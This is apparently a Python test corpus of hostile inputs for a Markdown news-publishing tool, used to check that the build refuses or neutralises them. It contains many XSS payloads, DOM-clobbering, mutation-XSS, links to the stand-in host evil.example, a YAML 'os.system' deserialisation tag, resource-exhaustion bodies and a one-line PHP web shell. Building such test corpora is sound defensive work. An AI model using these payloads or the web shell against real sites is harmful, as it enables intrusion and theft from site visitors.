"""A corpus of hostile inputs, by family: what an attacker (or a careless paste) would put in an editor's file.

Body payloads signal success in a reader's browser by opening a dialog, setting `window.__pwned`, or asking the
host `evil.example` for something; the tests fail on any of the three. Every input here is either refused by
`bantin check` at a line of its file, or accepted and published harmless.
"""

from __future__ import annotations

EVIL = "evil.example"
RUN = "window.__pwned=1;alert(1)"

BODY_FAMILIES: dict[str, list[str]] = {
    "script elements, however spelled": [
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<script src=//{EVIL}/x.js></script>",
        f"<script/src=//{EVIL}/x.js></script>",
        f"<scr<script>ipt>{RUN}</script>ipt>",
        f"<svg><script>{RUN}</script></svg>",
        f"<math><script>{RUN}</script></math>",
        f'<script type="module">{RUN}</script>',
        f"Đoạn văn <script\n>{RUN}</script\n> giữa câu.",
        f"<div>\n<script>{RUN}</script>\n</div>",
    ],
    "event handlers": [
        f"<svg/onload={RUN}>",
        f'<img src=x onerror="{RUN}">',
        f'<img alt=">" src=x onerror="{RUN}">',
        f"<img src=x ONERROR={RUN}>",
        f'<img src=x onerror\n="{RUN}">',
        f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
        f'<body onload="{RUN}">',
        f'<a href="#" onclick="{RUN}">bấm</a>',
        f'<p onmouseover="{RUN}">di chuột</p>',
        f'<input autofocus onfocus="{RUN}">',
        f'<video><source onerror="{RUN}"></video>',
        f'<marquee onstart="{RUN}">chữ chạy</marquee>',
        "<img src=x onerror=&#97;lert(1)>",
        f'<div/onpointerenter="{RUN}">x</div>',
    ],
    "script addresses": [
        "[bấm](javascript:alert(1))",
        "[bấm](JaVaScRiPt:alert(1))",
        "[bấm](&#106;avascript:alert(1))",
        "[bấm](&#x6A;&#x61;vascript:alert(1))",
        "[bấm](java&#x09;script:alert(1))",
        "[bấm](java&#10;script:alert(1))",
        '<a href=" javascript:alert(1)">bấm</a>',
        '<a href="javascript&colon;alert(1)">bấm</a>',
        '<a href="&#1;javascript:alert(1)">bấm</a>',
        "[bấm][kia]\n\n[kia]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[bấm](vbscript:msgbox(1))",
        "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="data:text/html,<script>alert(1)</script>">bấm</a>',
        '<form action="javascript:alert(1)"><button>gửi</button></form>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="javascript:alert(1)">',
        '<a href="x" xlink:href="javascript:alert(1)">bấm</a>',
        '<math><a xlink:href="javascript:alert(1)">bấm</a></math>',
    ],
    "requests to another host": [
        f"![ảnh](https://{EVIL}/a.jpg)",
        f"![ảnh](//{EVIL}/a.jpg)",
        f"![ảnh](\\\\{EVIL}/a.jpg)",
        f"![ảnh][r]\n\n[r]: https://{EVIL}/a.jpg",
        f'<img src="https://{EVIL}/a.jpg">',
        f'<img src="a.jpg" srcset="https://{EVIL}/a.jpg 2x">',
        f'<video poster="https://{EVIL}/p.jpg"></video>',
        f'<video src="https://{EVIL}/v.mp4"></video>',
        f'<audio src="//{EVIL}/a.mp3"></audio>',
        f'<video><source src="https://{EVIL}/v.mp4"></video>',
        f'<p style="background:url(https://{EVIL}/bg.png)">nền</p>',
        f"<style>@import url(https://{EVIL}/x.css); body{{background:url(//{EVIL}/b.png)}}</style>",
        f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
        f'<a href="https://dangcongsan.vn/" ping="https://{EVIL}/ping">liên kết</a>',
        f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
        f'<base href="https://{EVIL}/">',
        f'<iframe src="https://{EVIL}/"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
        f'<object data="https://{EVIL}/x.swf"></object>',
        f'<embed src="https://{EVIL}/x.swf">',
        f'<form action="https://{EVIL}/"><input name="q"><button>gửi</button></form>',
        f'<table background="https://{EVIL}/t.png"><tr><td>ô</td></tr></table>',
        f'<svg><image href="https://{EVIL}/s.png"/></svg>',
        f'<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RUN}%22/>">',
    ],
    "attribute lists": [
        f'Đoạn văn\n{{: onclick="{RUN}" }}',
        f'![ảnh](anh.jpg){{: onerror="{RUN}" }}',
        '## Tiêu đề {: style="position:fixed;top:0;left:0;width:100%;height:100%" }',
        "Đoạn văn\n{: #__config }",
        "Đoạn văn\n{: .md-dialog .md-dialog--active }",
        f'[liên kết](https://dangcongsan.vn/){{: ping="https://{EVIL}/" }}',
        '[liên kết](https://dangcongsan.vn/){: href="javascript:alert(1)" }',
        '![ảnh](anh.jpg){: srcset="https://evil.example/a.jpg 2x" }',
    ],
    "code that Markdown reads differently from a naive scan": [
        f'````\n```\n````\n<img src=x onerror="{RUN}">',
        f"~~~\n<script>{RUN}</script>\n~~~",
        f"``<script>{RUN}</script>``",
        f'`` ` ``<img src=x onerror="{RUN}">',
        f"    <script>{RUN}</script>",
        f'- mục\n\n      <img src=x onerror="{RUN}">',
        f'<!-- ``` -->\n<img src=x onerror="{RUN}">\n<!-- ``` -->',
        f'```\nchưa đóng\n\n<img src=x onerror="{RUN}">',
        f'\\`<img src=x onerror="{RUN}">\\`',
        f'<pre><code><img src=x onerror="{RUN}"></code></pre>',
    ],
    "clobbering the page's globals": [
        '<p id="__config">{"base":"https://evil.example/"}</p>',
        '<div id="__md_scope">x</div>',
        '<a id="__md_analytics" href="#">x</a>',
        '<img name="getElementById" src="anh.jpg">',
        '<form name="body"><input name="appendChild"></form>',
        '<div id="bt-header-q">x</div>',
        "## __config",
        '<p id="__drawer" class="md-toggle">x</p>',
    ],
    "parser confusion (mutation XSS)": [
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f'<textarea><img src=x onerror="{RUN}"></textarea>',
        f'<title><img src=x onerror="{RUN}"></title>',
        f'<xmp><img src=x onerror="{RUN}"></xmp>',
        f'<template><img src=x onerror="{RUN}"></template>',
        f'<a href="x" title="&quot;><img src=x onerror={RUN}>">x</a>',
        f'<img src="x` `<script>{RUN}</script>"` `>',
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f'<?xml version="1.0"?><img src=x onerror={RUN}>',
        f'<img src=x onerror="{RUN}"',
    ],
}

FRONTMATTER_FAMILIES: dict[str, list[str]] = {
    "values YAML would turn into something else": [
        "title: 20:30\n",
        "title: yes\n",
        "title: 0x1F\n",
        "title: 012\n",
        "title: 1e3\n",
        "title: .inf\n",
        "title: null\n",
        "author: 1:05\n",
        "author: no\n",
        "author: ~\n",
        "category: 2023\n",
        "tags: [yes, 1:05, 0o17]\n",
    ],
    "references and tags": [
        "title: &a Tin\nauthor: *a\n",
        "title: !!python/object/apply:os.system [echo pwned]\n",
        "title: !!binary aGVsbG8=\n",
        "tags: &x [a, b]\norganizations: *x\n",
        "source: *missing\n",
    ],
    "markup in fields": [
        'title: "</title><script>alert(1)</script>"\n',
        'author: "<img src=x onerror=alert(1)>"\n',
        'category: "\\"><svg onload=alert(1)>"\n',
        'summary: "]]></description><script>alert(1)</script>"\n',
        'tags: ["</script><script>alert(1)</script>"]\n',
        'image_caption: "{{ 7*7 }} {% raw %}"\n',
        'source: "javascript:alert(1)"\n',
    ],
}

# Each builds a whole frontmatter block with its own title, date and unit lines where it needs them.
LIMIT_FAMILIES: dict[str, list[str]] = {
    "what the build cannot handle": [
        "date: 1899-12-31\n",
        "date: 2101-01-01\n",
        "date: 0001-01-01\n",
        "date: 9999-12-31 23:59\n",
        'title: "   "\n',
        'unit: "  "\n',
        'category: "!!!"\n',
        'tags: ["---", Dân vận]\n',
    ],
}

# Bodies that exhaust something: nesting, emphasis recursion, quadratic brackets, size, index counts.
LIMIT_BODIES: list[str] = [
    "\n".join("    " * level + "- mục" for level in range(1000)),
    ">" * 200 + " trích dẫn lồng",
    "*" * 5000 + "chữ" + "*" * 5000,
    "[" * 5000 + "chữ",
    "a " * 300_000,
    "Dân vận. " * 140_000,
    ("a " * 24_000 + "\n\n") * 12,
]

# Files beside articles, by name and bytes, that must never be published.
FILE_FAMILIES: dict[str, list[tuple[str, bytes]]] = {
    "files that are not content": [
        ("trang.html", b"<script>window.__pwned=1</script>"),
        ("trang.htm", b"<script>window.__pwned=1</script>"),
        ("hinh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("ma.js", b"alert(1)"),
        ("ma.php", b"<?php system($_GET['c']); ?>"),
        ("khong-duoi", b"data"),
        ("trang.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"),
        (".htaccess", b"Options +ExecCGI"),
    ],
}


def counts() -> dict[str, int]:
    """Inputs per family, as the closing note reports them."""
    families: dict[str, int] = {name: len(bodies) for name, bodies in BODY_FAMILIES.items()}
    families.update({name: len(values) for name, values in FRONTMATTER_FAMILIES.items()})
    families.update({name: len(values) for name, values in LIMIT_FAMILIES.items()})
    families["bodies that exhaust the build"] = len(LIMIT_BODIES)
    families.update({name: len(files) for name, files in FILE_FAMILIES.items()})
    return families
